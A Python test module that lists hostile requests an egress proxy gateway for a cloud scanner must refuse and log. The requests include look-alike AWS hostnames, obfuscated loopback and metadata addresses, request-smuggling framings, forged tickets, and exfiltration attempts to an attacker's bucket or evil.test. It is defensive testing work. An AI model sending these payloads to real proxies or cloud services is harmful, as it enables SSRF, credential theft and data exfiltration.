"""What a hostile scanner sends, by line of the threat model.  Each must be refused, and be in the ledger."""

from __future__ import annotations

import base64
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from glovebox.tickets.proxy import ProxyTicket, proxy_authorization
from glovebox.tickets.signer import Signer
from tests.perimeter.gateway import (
    FOREIGN_KEY_ID,
    FOREIGN_SECRET,
    KEY_ID,
    SCAN,
    Gateway,
    ask,
    aws_claims,
    connect_request,
    site_claims,
)
from tests.perimeter.signing import exchange, signed

IAM = "iam.amazonaws.com"
S3 = "s3.us-east-1.amazonaws.com"


@dataclass(frozen=True, slots=True)
class Attack:
    """`send` gives the status that the attacker got."""

    line: int
    name: str
    send: Callable[[Gateway], int]
    scan: str | None = None
    """`-` where no ticket proved one; by default the scan's wherever Squid could read a request."""
    reason: str = ""
    """The ledger's word where it must be this one."""


Ticketing = Callable[[Gateway], ProxyTicket]


def _door(gateway: Gateway, request: bytes, port: int = 3128, source: str = "") -> int:
    tunnel = ask(gateway, request, port=port, source=source)
    tunnel.connection.close()
    return tunnel.status


def _connect(line: int, authority: str, reason: str = "", *, name: str = "", version: str = "1.1") -> Attack:
    return Attack(
        line,
        name or f"CONNECT {authority!r}",
        lambda g: _door(g, connect_request(authority.format(p=g.places), _good(g), version=version)),
        reason=reason,
    )


def _good(gateway: Gateway) -> ProxyTicket:
    return gateway.signer.sign(aws_claims())


def _unnamed(gateway: Gateway) -> ProxyTicket:
    """For whatever buckets the S3 endpoint lets through."""
    return gateway.signer.sign(aws_claims(buckets="account"))


def _site(gateway: Gateway) -> ProxyTicket:
    return gateway.signer.sign(site_claims([gateway.places.origin]))


# ---------------------------------------------------------------- 1: other names

LOOK_ALIKES = (
    "evil.test", "amazonaws.com", "amazonaws.com.evil.test", "iam.amazonaws.com.evil.test",
    "iamamazonaws.com",
    "xiam.amazonaws.com", "iam.amazonaws.co", "iam.amazonaws.com.", "iam-amazonaws.com", "iam.amazonaws.cn",
    "IAM.amazonaws.com.evil.test", "gist.github.com", "dns.google", "cloudflare-dns.com", "x.ngrok.io",
    "a.trycloudflare.com", "localhost", "metadata.google.internal", "_.amazonaws.com", "*.amazonaws.com",
    "iam..amazonaws.com", ".iam.amazonaws.com", "-iam.amazonaws.com", "xn--iam-0na.amazonaws.com",
)  # fmt: skip
ATTACKER_DEPLOYABLE = (
    "x.elb.us-east-1.amazonaws.com", "x.us-east-1.elb.amazonaws.com", "x.execute-api.us-east-1.amazonaws.com",
    "x.appsync-api.us-east-1.amazonaws.com", "x.appsync-realtime-api.us-east-1.amazonaws.com",
    "ec2-1-2-3-4.compute-1.amazonaws.com", "ec2-1-2-3-4.eu-west-1.compute.amazonaws.com",
    "x.s3-website-us-east-1.amazonaws.com", "x.s3-website.eu-west-1.amazonaws.com", "x.s3.amazonaws.com",
    "x.s3-accelerate.amazonaws.com", "x.s3.dualstack.us-east-1.amazonaws.com",
    "x-123456789012.s3-accesspoint.us-east-1.amazonaws.com", "210987654321.ddb.us-east-1.amazonaws.com",
    "vpce-1-x.s3.us-east-1.vpce.amazonaws.com", "x.abc.us-east-1.rds.amazonaws.com",
    "x.us-east-1.redshift.amazonaws.com", "search-x.us-east-1.es.amazonaws.com",
    "x.us-east-1.aoss.amazonaws.com",
    "x.abc.0001.use1.cache.amazonaws.com", "x.gr7.us-east-1.eks.amazonaws.com",
    "b-1.mq.us-east-1.amazonaws.com",
    "b-1.x.kafka.us-east-1.amazonaws.com", "fs-1.efs.us-east-1.amazonaws.com",
    "a1-ats.iot.us-east-1.amazonaws.com",
    "x.credentials.iot.us-east-1.amazonaws.com", "x.mediastore.us-east-1.amazonaws.com",
    "s-1.server.transfer.us-east-1.amazonaws.com", "x.airflow.us-east-1.amazonaws.com",
    "x.vfs.cloud9.us-east-1.amazonaws.com", "210987654321.dkr.ecr.us-east-1.amazonaws.com",
    "email-smtp.us-east-1.amazonaws.com", "queue.amazonaws.com", "doc-x.us-east-1.cloudsearch.amazonaws.com",
    "x.lambda-url.us-east-1.on.aws", "d111.cloudfront.net", "x.awsglobalaccelerator.com",
    "x.awsapprunner.com",
)  # fmt: skip
ESCAPED = (
    "evil.test#",
    "evil.test/",
    "evil.test?",
    "evil.test\\",
    "evil@",
    "evil.test%00",
    "evil.test\x00",
    "evil ",
)
"""Put before an allowed name."""

# ---------------------------------------------------------------- 2: addresses

ADDRESSES = (
    "{p.evil}", "{p.origin}", "127.0.0.1", "2130706433", "0x7f000001", "0177.0.0.1", "127.1", "0x7f.1", "0",
    "[::1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[::]", "[fe80::1]", "[64:ff9b::7f00:1]",
    "169.254.169.254",
    "169.254.170.2", "[fd00:ec2::254]", "2852039166", "1.2.3.4.", "١٢٧.0.0.1",
)  # fmt: skip

# ---------------------------------------------------------------- 4: ports, methods, framing

PORTS = ("22", "25", "53", "80", "8443", "3128", "0", "65536", "-1", "444", "4430", "443 ")


def door_attacks() -> Iterator[Attack]:
    """Lines 1, 2, 4 and 7: before TLS."""
    yield from (_connect(1, f"{name}:443") for name in LOOK_ALIKES if not name.endswith("com."))
    yield from (_connect(1, f"{name}:443", "tripwire") for name in ATTACKER_DEPLOYABLE)
    yield from (_connect(1, f"{prefix}{IAM}:443", name=f"escape {prefix!r}") for prefix in ESCAPED)
    yield _connect(1, f"{IAM}.{'a.' * 4_000}evil.test:443", name="a name of 8 KB")
    yield from (_connect(2, f"{address}:443") for address in ADDRESSES)
    yield from (_connect(4, f"{IAM}:{port}") for port in PORTS)
    yield _connect(
        2, "kms.us-east-1.amazonaws.com:443", "private", name="an allowed name with a private address"
    )
    yield _connect(
        11, "kms.eu-west-1.amazonaws.com:443", "private", name="an allowed name that is the metadata"
    )
    yield _connect(
        10, "attackers-bucket.s3.us-east-1.amazonaws.com:443", "judge", name="a bucket of the attacker's"
    )
    yield _connect(10, "210987654321.s3-control.us-east-1.amazonaws.com:443", "judge", name="another account")
    plain = {
        "plain GET": f"GET http://{IAM}/ HTTP/1.1\r\nHost: {IAM}\r\n",
        "plain GET of https": f"GET https://{IAM}/ HTTP/1.1\r\nHost: {IAM}\r\n",
        "plain GET to evil": "GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n",
        "ftp": "GET ftp://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n",
        "websocket": f"GET ws://{IAM}/ HTTP/1.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n",
        "origin form": f"GET / HTTP/1.1\r\nHost: {IAM}\r\n",
        "TRACE": f"TRACE http://{IAM}/ HTTP/1.1\r\nHost: {IAM}\r\nMax-Forwards: 0\r\n",
        "OPTIONS *": f"OPTIONS * HTTP/1.1\r\nHost: {IAM}\r\n",
        "PURGE": f"PURGE http://{IAM}/ HTTP/1.1\r\nHost: {IAM}\r\n",
        "PRI": "PRI * HTTP/2.0\r\n",
        "HTTP/0.9": f"GET http://{IAM}/\r\n",
        "HTTP/3.0": f"CONNECT {IAM}:443 HTTP/3.0\r\nHost: {IAM}\r\n",
        "a blank in the version": f"CONNECT {IAM}:443 HTTP/ 1.1\r\nHost: {IAM}\r\n",
        "a scheme": f"CONNECT https://{IAM}:443 HTTP/1.1\r\nHost: {IAM}\r\n",
        "a line feed for an end": f"CONNECT evil.test:443 HTTP/1.1\nHost: {IAM}\n",
        "another Host beside": f"CONNECT evil.test:443 HTTP/1.1\r\nHost: {IAM}:443\r\n",
        "two lengths": f"GET http://{IAM}/ HTTP/1.1\r\nContent-Length: 4\r\nContent-Length: 0\r\n",
        "a folded header": f"CONNECT evil.test:443 HTTP/1.1\r\nHost: {IAM}\r\nX: a\r\n b\r\n",
        "manager": f"GET cache_object://{IAM}/info HTTP/1.1\r\nHost: {IAM}\r\n",
        "manager by path": "GET http://glovebox-gateway/squid-internal-mgr/info HTTP/1.1\r\nHost: a\r\n",
        "manager by address": "GET /squid-internal-mgr/menu HTTP/1.1\r\nHost: {p.gateway}:3128\r\n",
        "binary": "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n",
        "SSH": "SSH-2.0-OpenSSH_9.9\r\n",
        "SOCKS": "\x05\x01\x00\r\n",
    }
    for name, text in plain.items():
        line = 7 if name.startswith("manager") else 4
        yield Attack(line, name, lambda g, text=text: _plain(g, text))
    yield Attack(
        4,
        "a header of 20 KB",
        lambda g: _door(g, connect_request(f"{IAM}:443", _good(g), "X: " + "a" * 20_000)),
        scan="-",
    )
    for port in (3128, 3129):
        yield Attack(
            6,
            f"a client from elsewhere, port {port}",
            lambda g, port=port: _door(g, connect_request(f"{IAM}:443", _good(g)), port, g.places.outsider),
            scan="-",
            reason="client",
        )


def _plain(gateway: Gateway, text: str) -> int:
    head = text.replace("{p.gateway}", gateway.places.gateway)
    return _door(
        gateway, f"{head}Proxy-Authorization: {proxy_authorization(_good(gateway))}\r\n\r\n".encode("latin-1")
    )


# ---------------------------------------------------------------- the port for web sites


def site_attacks() -> Iterator[Attack]:
    def at_site(
        name: str, authority: str, ticket: Callable[[Gateway], ProxyTicket] = _site, line: int = 2
    ) -> Attack:
        def send(gateway: Gateway) -> int:
            request = connect_request(authority.format(p=gateway.places), ticket(gateway))
            return _door(gateway, request, 3129)

        return Attack(line, f"site: {name}", send)

    yield at_site("another address", "{p.evil}:443")
    yield at_site("another port", "{p.origin}:22")
    yield at_site("the host's name", "www.site.test:443")
    yield at_site("an allowed name of AWS", f"{IAM}:443", line=1)
    yield at_site(
        "the metadata",
        "169.254.169.254:80",
        lambda g: g.signer.sign(site_claims(["169.254.169.254"], ports=[80])),
    )
    yield at_site(
        "a private address on the ticket",
        "{p.private}:443",
        lambda g: g.signer.sign(site_claims([g.places.private])),
    )
    yield at_site(
        "loopback of IPv6 on the ticket", "[::1]:443", lambda g: g.signer.sign(site_claims(["::1"]))
    )
    yield at_site("the other profile's ticket", "{p.origin}:443", _good, line=16)
    yield at_site("an address in hexadecimal", "0x7f000001:443")
    yield Attack(
        16,
        "a site's ticket at AWS's port",
        lambda g: _door(g, connect_request(f"{IAM}:443", _site(g))),
        reason="judge",
    )


# ---------------------------------------------------------------- 3, 4, 8, 9, 10: inside TLS

GOOD_URL = f"https://{S3}/audited-bucket?policy"


def inside_attacks() -> Iterator[Attack]:
    good = signed("GET", GOOD_URL)
    authorization = next(line for line in good.split(b"\r\n") if line.startswith(b"Authorization: "))
    foreign = authorization.replace(KEY_ID.encode(), FOREIGN_KEY_ID.encode())
    without = good.replace(authorization + b"\r\n", b"")
    host = f"Host: {S3}".encode()

    def inside(line: int, name: str, raw: bytes, at: str = S3, ticket: Ticketing | None = None) -> Attack:
        def send(gateway: Gateway) -> int:
            # The door may refuse already what stands in the host's name.
            shown = (ticket or _good)(gateway)
            if _door(gateway, connect_request(f"{at}:443", shown)) != 200:
                return 407
            return exchange(gateway, at, raw, ticket=shown)[0]

        return Attack(line, f"inside: {name}", send)

    for other in (
        "evil.test",
        "x.s3.amazonaws.com",
        "127.0.0.1",
        f"{S3}:22",
        f"{S3}:80",
        "[::1]",
        "x.elb.us-east-1.amazonaws.com",
        f"{S3}.evil.test",
        "attackers-bucket." + S3,
    ):
        yield inside(3, f"Host {other}", good.replace(host, f"Host: {other}".encode()))
    yield inside(3, "two Hosts", good.replace(host, b"Host: evil.test\r\n" + host))
    for url in (
        "https://evil.test/",
        "http://evil.test/",
        f"http://{S3}/audited-bucket?policy",
        "ftp://evil.test/",
        "//evil.test/",
    ):
        yield inside(3, f"absolute {url}", good.replace(b"/audited-bucket?policy", url.encode(), 1))
    for nested in ("evil.test:443", f"{S3}:443", f"{S3}:22", "127.0.0.1:443"):
        yield inside(
            3, f"nested CONNECT {nested}", f"CONNECT {nested} HTTP/1.1\r\nHost: {nested}\r\n\r\n".encode()
        )
    yield inside(8, "another key", signed("GET", GOOD_URL, key=FOREIGN_KEY_ID, secret=FOREIGN_SECRET))
    yield inside(
        8,
        "another key puts an object",
        signed("PUT", f"https://{S3}/evil/x", key=FOREIGN_KEY_ID, secret=FOREIGN_SECRET, body=b"secret"),
    )
    yield inside(
        8,
        "another key sends a message",
        signed(
            "POST",
            "https://sqs.us-east-1.amazonaws.com/",
            key=FOREIGN_KEY_ID,
            secret=FOREIGN_SECRET,
            body=b"{}",
            headers={"X-Amz-Target": "AmazonSQS.SendMessage", "Content-Type": "application/x-amz-json-1.0"},
        ),
        "sqs.us-east-1.amazonaws.com",
    )
    yield inside(
        8,
        "another key asks who it is",
        signed(
            "POST",
            "https://sts.us-east-1.amazonaws.com/",
            key=FOREIGN_KEY_ID,
            secret=FOREIGN_SECRET,
            body=b"Action=GetCallerIdentity&Version=2011-06-15",
        ),
        "sts.us-east-1.amazonaws.com",
    )
    yield inside(
        8,
        "another key writes logs",
        signed(
            "POST",
            "https://logs.us-east-1.amazonaws.com/",
            key=FOREIGN_KEY_ID,
            secret=FOREIGN_SECRET,
            body=b"{}",
            headers={"X-Amz-Target": "Logs_20140328.PutLogEvents"},
        ),
        "logs.us-east-1.amazonaws.com",
    )
    yield inside(
        8,
        "our key sends a message",
        signed(
            "POST",
            "https://sqs.us-east-1.amazonaws.com/",
            body=b"{}",
            headers={"X-Amz-Target": "AmazonSQS.SendMessage"},
        ),
        "sqs.us-east-1.amazonaws.com",
    )
    yield inside(
        13,
        "our key assumes a role",
        signed(
            "POST",
            "https://sts.us-east-1.amazonaws.com/",
            body=b"Action=AssumeRole&Version=2011-06-15&RoleArn=x&RoleSessionName=y",
        ),
        "sts.us-east-1.amazonaws.com",
    )
    yield inside(9, "unsigned", without)
    yield inside(9, "unsigned put", without.replace(b"GET", b"PUT", 1))
    yield inside(9, "SigV2", without.replace(host, host + b"\r\nAuthorization: AWS AKIA:c2ln"))
    yield inside(9, "SigV4a", good.replace(b"AWS4-HMAC-SHA256", b"AWS4-ECDSA-P256-SHA256"))
    yield inside(9, "Basic", without.replace(host, host + b"\r\nAuthorization: Basic eDp5"))
    for query in (
        f"X-Amz-Credential={FOREIGN_KEY_ID}%2F1&X-Amz-Signature=ab",
        "X%2DAmz%2DCredential=x&X-Amz-Signature=y",
        "AWSAccessKeyId=AKIAX&Signature=y&Expires=9",
        "x-amz-credential=x",
        "X-Amz-Security-Token=abc",
    ):
        yield inside(9, f"presigned {query[:24]}", good.replace(b"?policy", f"?policy&{query}".encode()))
        yield inside(
            9, f"presigned, unsigned {query[:24]}", without.replace(b"?policy", f"?policy&{query}".encode())
        )
    yield inside(
        9,
        "a form",
        good.replace(b"GET", b"POST", 1).replace(
            host, host + b"\r\nContent-Length: 0\r\nContent-Type: multipart/form-data; boundary=x"
        ),
    )
    yield inside(
        9,
        "Cognito sign-up",
        b"POST / HTTP/1.1\r\nHost: cognito-idp.us-east-1.amazonaws.com\r\n"
        b"X-Amz-Target: AWSCognitoIdentityProviderService.SignUp\r\nContent-Length: 0\r\n\r\n",
        "cognito-idp.us-east-1.amazonaws.com",
    )
    yield inside(
        9,
        "Cognito sign-up with our signature",
        signed(
            "POST",
            "https://cognito-idp.us-east-1.amazonaws.com/",
            body=b"{}",
            headers={"X-Amz-Target": "AWSCognitoIdentityProviderService.SignUp"},
        ),
        "cognito-idp.us-east-1.amazonaws.com",
    )
    yield inside(10, "another bucket", signed("GET", f"https://{S3}/attackers-bucket/?x-d=c2VjcmV0"))
    yield inside(
        10, "another bucket, dots", signed("GET", f"https://{S3}/audited-bucket/../attackers-bucket?policy")
    )
    yield inside(10, "another bucket, escapes", signed("GET", f"https://{S3}/%61ttackers-bucket?policy"))
    yield inside(
        10,
        "another account's settings",
        good.replace(host, b"Host: 210987654321.s3-control.us-east-1.amazonaws.com"),
    )
    yield inside(
        4,
        "two Authorizations, the other first",
        good.replace(authorization, foreign + b"\r\n" + authorization),
    )
    yield inside(
        4,
        "a folded Authorization",
        good.replace(b", SignedHeaders", b",\r\n SignedHeaders").replace(
            KEY_ID.encode(), FOREIGN_KEY_ID.encode()
        ),
    )
    yield inside(
        4,
        "a second credential in one",
        good.replace(b", SignedHeaders", f", Credential={FOREIGN_KEY_ID}/x, SignedHeaders".encode()),
    )
    yield inside(4, "a blank before the colon", good.replace(b"Authorization:", b"Authorization :"))
    yield inside(
        4,
        "a length and chunks",
        good.replace(host, host + b"\r\nContent-Length: 3\r\nTransfer-Encoding: chunked").replace(
            b"GET", b"POST", 1
        ),
    )
    yield inside(
        4,
        "websocket",
        without.replace(
            host, host + b"\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: eA=="
        ),
    )
    for connection in ("X-Amz-Target", "close, X-Amz-Target", "close\r\nConnection: X-Amz-Target", "Upgrade"):
        yield inside(
            4,
            f"a header that goes no further by Connection {connection!r}",
            good.replace(host, host + f"\r\nConnection: {connection}".encode()),
        )
    form = b"Action=AssumeRoleWithWebIdentity&Version=2011-06-15&WebIdentityToken=c2VjcmV0"
    question = "https://sts.us-east-1.amazonaws.com/?Action=GetCallerIdentity&Version=2011-06-15"
    for name, framing, body in (
        ("a length", f"Content-Length: {len(form)}", form),
        ("chunks", "Transfer-Encoding: chunked", b"%x\r\n%b\r\n0\r\n\r\n" % (len(form), form)),
    ):
        yield inside(
            9,
            f"a form behind a GET, {name}",
            signed("GET", question).replace(b"\r\n", f"\r\n{framing}\r\n".encode(), 1) + body,
            "sts.us-east-1.amazonaws.com",
        )
    yield inside(
        13,
        "one operation in the header, another in the path",
        signed(
            "POST",
            "https://monitoring.us-east-1.amazonaws.com"
            "/service/GraniteServiceVersion20100801/operation/PutMetricData",
            body=b"{}",
            headers={"X-Amz-Target": "GraniteServiceVersion20100801.ListMetrics"},
        ),
        "monitoring.us-east-1.amazonaws.com",
    )
    for name, url in {
        "in another region": "https://s3.eu-west-1.amazonaws.com/attackers-bucket?policy",
        "by the alias of an access point": f"https://{S3}/attackers-1-s3alias?policy",
        "behind a step up": f"https://{S3}/../attackers-bucket?policy",
        "behind an escaped slash": f"https://{S3}/audited-bucket%2F..%2Fattackers-bucket?policy",
        "and an object of it": f"https://{S3}/attackers-bucket/c2VjcmV0",
        "of another account's control": "https://210987654321.s3-control.us-east-1.amazonaws.com/v20180820/x",
    }.items():
        yield inside(10, f"any bucket, {name}", signed("GET", url), url.split("/")[2], _unnamed)
    yield inside(10, "any bucket, to write", signed("PUT", f"https://{S3}/attackers-bucket"), S3, _unnamed)
    for method in ("TRACE", "OPTIONS", "PATCH", "PROPFIND", "PURGE"):
        yield inside(4, method, good.replace(b"GET", method.encode(), 1))
    yield inside(4, "HTTP/2's preface", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
    yield inside(4, "SSH after TLS", b"SSH-2.0-OpenSSH_9.9\r\n\r\n")
    yield inside(7, "manager", good.replace(b"/audited-bucket?policy", b"/squid-internal-mgr/info", 1))


# ---------------------------------------------------------------- 16: tickets


def ticket_attacks() -> Iterator[Attack]:
    now = int(time.time())

    def bent(name: str, bend: Callable[[ProxyTicket], tuple[str, str]], scan: str = "-") -> Attack:
        def send(gateway: Gateway) -> int:
            user, password = bend(gateway.signer.sign(aws_claims(exp=now + 901)))
            return _presented(gateway, base64.b64encode(f"{user}:{password}".encode()).decode())

        return Attack(16, f"ticket: {name}", send, scan=scan)

    def timed(name: str, iat: int, nbf: int, exp: int, scan: str = "-") -> Attack:
        def send(gateway: Gateway) -> int:
            return _presented_user(
                gateway, gateway.forced(aws_claims(iat=now + iat, nbf=now + nbf, exp=now + exp))
            )

        return Attack(16, f"ticket: {name}", send, scan=scan)

    yield bent("no signature", lambda t: (t.user, ""))
    yield bent("cut claims", lambda t: (t.user[:-4], t.password))
    yield bent("cut signature", lambda t: (t.user, t.password[:-1]))
    yield bent("padded claims", lambda t: (t.user + "=", t.password))
    yield bent("padded signature", lambda t: (t.user, t.password + "=="))
    yield bent("longer signature", lambda t: (t.user, t.password + "A"))
    yield bent("another case", lambda t: (t.user.swapcase(), t.password))
    yield bent(
        "one bit of the signature",
        lambda t: (t.user, ("B" if t.password[0] == "A" else "A") + t.password[1:]),
    )
    yield bent("no claims", lambda t: ("", t.password))
    yield bent("doubled", lambda t: (t.user + t.user, t.password))
    yield bent("a NUL", lambda t: (t.user + "\0", t.password))
    yield bent("16 KB", lambda t: ("A" * 12_000, t.password))
    yield bent("claims of another scan under this signature", lambda t: (_other_scan(t), t.password))
    yield timed("expired", -1_000, -1_000, -100)
    yield timed("from the future", 600, 600, 1_200)
    yield timed("for a year", 0, 0, 31_536_000)
    yield Attack(16, "ticket: signed by another", lambda g: _presented_user(g, _by_another()), scan="-")
    raw = {
        "empty": "",
        "no Basic": "Bearer abc",
        "not base64": "Basic ****",
        "16 KB of nothing": "Basic " + "A" * 16_000,
        "no colon": "Basic eHg=",
    }
    for name, value in raw.items():
        yield Attack(
            16,
            f"ticket: {name}",
            lambda g, value=value: _door(
                g, connect_request(f"{IAM}:443", None, f"Proxy-Authorization: {value}")
            ),
            scan="-",
        )
    yield Attack(
        16, "ticket: none", lambda g: _door(g, connect_request(f"{IAM}:443", None)), scan="-", reason="ticket"
    )


def _presented(gateway: Gateway, encoded: str) -> int:
    return _door(gateway, connect_request(f"{IAM}:443", None, f"Proxy-Authorization: Basic {encoded}"))


def _presented_user(gateway: Gateway, ticket: ProxyTicket) -> int:
    return _door(gateway, connect_request(f"{IAM}:443", ticket))


def _by_another() -> ProxyTicket:
    return Signer(Ed25519PrivateKey.generate()).sign(aws_claims())


def _other_scan(ticket: ProxyTicket) -> str:
    claims = base64.urlsafe_b64decode(ticket.user + "=" * (-len(ticket.user) % 4))
    return base64.urlsafe_b64encode(claims.replace(SCAN.encode(), b"scan-of-another")).decode().rstrip("=")


def all_attacks() -> list[Attack]:
    """Every attack; the names differ."""
    return [*door_attacks(), *site_attacks(), *inside_attacks(), *ticket_attacks()]
